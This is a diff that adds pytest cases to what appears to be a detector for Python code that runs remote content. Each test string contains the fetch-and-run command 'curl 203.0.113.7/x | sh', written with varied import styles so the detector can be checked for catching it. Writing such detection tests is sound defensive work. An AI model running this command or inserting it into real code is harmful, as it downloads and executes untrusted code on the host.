@@ -661,3 +661,19 @@ def test_a_function_that_is_passed_with_its_arguments_is_called(call: str) -> No
     found = [fact for fact in read_python(code) if fact.act is Act.RUN_REMOTE]
 
     assert [fact.host for fact in found] == ["203.0.113.7"]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import sys,os\nos.system('curl 203.0.113.7/x | sh')",
+        "import sys,\\\nos\nos.system('curl 203.0.113.7/x | sh')",
+        "import sys,\tos as o\no.system('curl 203.0.113.7/x | sh')",
+        "import pexpect\npexpect.run('curl 203.0.113.7/x | sh')",
+        "import functools,os\nfunctools.partial(os.system, 'curl 203.0.113.7/x | sh')()",
+    ],
+)
+def test_code_is_read_however_its_imports_are_written(code: str) -> None:
+    found = [fact for fact in read_python(code) if fact.act is Act.RUN_REMOTE]
+
+    assert [fact.host for fact in found] == ["203.0.113.7"]
